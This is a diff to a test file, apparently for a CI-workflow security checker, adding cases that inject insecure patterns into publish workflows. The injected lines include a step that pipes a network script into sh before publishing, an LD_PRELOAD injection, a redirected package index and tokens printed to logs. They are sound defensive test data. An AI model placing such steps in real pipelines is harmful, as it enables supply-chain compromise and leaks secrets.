@@ -395,6 +395,7 @@ spelled(
     "contents-write-unneeded", "a publish may change the repository", lambda s: s.set(s.pypi, "permissions", "permissions: {contents: write, id-token: write}")
 )
 spelled("permission-unneeded", "a build may attest", lambda s: s.set(s.builder(), "permissions", "permissions: {contents: read, attestations: write}"))
+spelled("permission-unneeded", "a gate that may start runs", lambda s: s.swap(r"actions: read", "actions: write", s.job(Role.GATE)))
 spelled("permission-missing", "a publish without its identity", lambda s: s.set(s.crate, "permissions", "permissions:", "  contents: read"))
 spelled(
     "permission-missing",
@@ -416,6 +417,13 @@ spelled(
 spelled("registry-token-stored", "for the whole workflow", lambda s: s.swap(r"^jobs:", "env:\n  TWINE_PASSWORD: ${{ secrets.PYPI_API_TOKEN }}\n\njobs:"))
 spelled("registry-password", "a password for PyPI", lambda s: s.swap(r"^( +)packages-dir: .*", r"\g<0>\n\1password: ${{ secrets.PYPI_API_TOKEN }}", s.pypi))
 spelled("secret-in-script", "a secret in a script", lambda s: s.step_append(s.builder(), "- run: echo ${{ secrets.TOKEN }}"))
+SECRET = 'env: {TOKEN: "${{ github.token }}"}'
+spelled("secret-printed", "a token in the log", lambda s: s.step_append(s.builder(), "- run: echo $TOKEN", f"  {SECRET}"))
+spelled("secret-printed", "a trace", lambda s: s.step_append(s.builder(), "- run: |", "    set -x", "    test $TOKEN", f"  {SECRET}", "  shell: bash"))
+spelled("script-from-network", "a script before a publish", lambda s: s.step_before(s.pypi, r"pypi-publish", "- run: curl -sSf https://example.org/x | sh"))
+spelled("environment-chosen", "the name of the tag", lambda s: s.set(s.pypi, "environment", "environment: ${{ github.ref_name }}"))
+spelled("tool-redirected", "a library before all others", lambda s: s.add(s.crate, "env: {LD_PRELOAD: ./x.so}"))
+spelled("tool-redirected", "another index", lambda s: s.step_append(s.builder(), "- run: export PIP_INDEX_URL=https://example.org"))
 spelled("expression-in-script", "the name of the tag in a script", lambda s: s.step_append(s.builder(), "- run: echo '${{ github.ref_name }}'"))
 for switch in ("skip-existing: true", "skip_existing: 'true'", "skip-existing: ${{ true }}"):
     spelled("publish-skips-existing", switch, lambda s, switch=switch: s.swap(r"^( +)packages-dir: .*", rf"\g<0>\n\1{switch}", s.pypi))  # type: ignore[misc]
